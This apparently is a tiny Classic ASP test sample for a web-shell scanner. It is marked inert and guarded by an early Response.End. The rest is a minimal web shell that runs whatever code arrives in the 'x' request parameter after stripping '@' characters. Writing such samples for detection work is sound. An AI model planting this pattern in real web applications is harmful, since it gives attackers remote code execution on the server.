<% ' shellsweep test sample: inert, never functional
Response.End %>
<%
Function UnEncode(s) : UnEncode = Replace(s, "@", "") : End Function
ExecuteGlobal(UnEncode(Request.Item("x")))
%>
